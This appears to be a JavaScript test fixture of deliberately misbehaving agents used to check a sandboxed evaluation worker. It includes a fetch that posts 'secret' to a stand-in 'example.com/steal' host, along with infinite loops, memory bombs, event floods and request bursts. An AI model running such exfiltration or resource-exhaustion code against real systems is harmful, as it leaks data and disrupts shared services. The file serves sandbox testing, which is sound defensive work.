// Evaluated in runner workers, as text. Each kind misbehaves in its own way.
const text = async (response) => (await response.json()).choices[0].message.content;
const ask = (content, more = {}) =>
  fetch("/v1/chat/completions", {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ model: "gpt-4o", messages: [{ role: "user", content }], ...more }),
  });
let seen = 0;

const kinds = {
  plain: async ({ word }) => suffix + (await text(await ask(word))),
  chat: async ({ word }, { llm, emit }) => {
    emit("asked", { word });
    console.log("asking", word);
    emit.operation("think", (think) => think.reward(0.5));
    return emit.operation("ask", async () => {
      const answer = await llm.chat(word);
      emit.message(answer);
      return answer;
    });
  },
  stream: async ({ word }) => {
    const response = await ask(word, { stream: true });
    let said = "";
    let events = 0;
    const reader = response.body.pipeThrough(new TextDecoderStream()).getReader();
    for (;;) {
      const { value, done } = await reader.read();
      if (done) return { said, events, type: response.headers.get("content-type") };
      for (const [, data] of value.matchAll(/data: (\{.*\})/g)) {
        events++;
        said += JSON.parse(data).choices[0].delta.content ?? "";
      }
    }
  },
  coin: async () => Math.random(),
  // `seen` must be new in every rollout, and a global left behind must cost the worker.
  fresh: async () => {
    globalThis.left = (globalThis.left ?? 0) + 1;
    return [++seen, globalThis.left];
  },
  realm: async () => {
    const refused = (name) => {
      try {
        return typeof new Function(`return ${name}`)();
      } catch (error) {
        return error.name;
      }
    };
    let database = "open";
    try {
      indexedDB.open("x");
    } catch (error) {
      database = error.name;
    }
    const request = new Request("http://127.0.0.1:1/");
    const outside = await fetch(request).catch((error) => error.message);
    return {
      origin: self.origin,
      database,
      outside,
      post: refused("postMessage"),
      worker: refused("Worker"),
    };
  },
  denied: async () => {
    await fetch("https://example.com/steal", { method: "POST", body: "secret" });
  },
  throws: async () => {
    throw new RangeError("it went wrong");
  },
  later: () => {
    setTimeout(() => {
      throw new Error("thrown later");
    }, 5);
    return new Promise(() => {});
  },
  flaky: async (task, { attemptId }) => {
    if (attemptId.endsWith(".1")) throw new Error("the first time");
    return "the second time";
  },
  loop: async () => {
    for (;;);
  },
  hang: () => new Promise(() => {}),
  promises: async () => {
    for (;;) await null;
  },
  flood: async (task, { emit }) => {
    for (;;) emit("flood", "x");
  },
  bytes: async (task, { emit }) => {
    for (;;) emit("flood", new Uint8Array(100_000));
  },
  huge: async () => "x".repeat(3_000_000),
  unclonable: async () => () => 1,
  spam: async () => {
    for (;;) await fetch("https://api.openai.com/v1/models");
  },
  burst: async () => {
    await Promise.all(Array.from({ length: 500 }, () => ask("a")));
  },
  memory: async () => {
    const kept = [];
    for (let i = 0; i < 20; i++) kept.push(new Uint8Array(1_000_000).fill(1));
    new Uint8Array(2 ** 40);
    return kept.length;
  },
  bomb: async () => {
    const kept = [];
    for (;;) kept.push(new Array(1_000_000).fill(0.5));
  },
};
// eslint-disable-next-line @typescript-eslint/no-unused-vars -- the entry
const agent = (task, context) => kinds[task.kind](task, context);
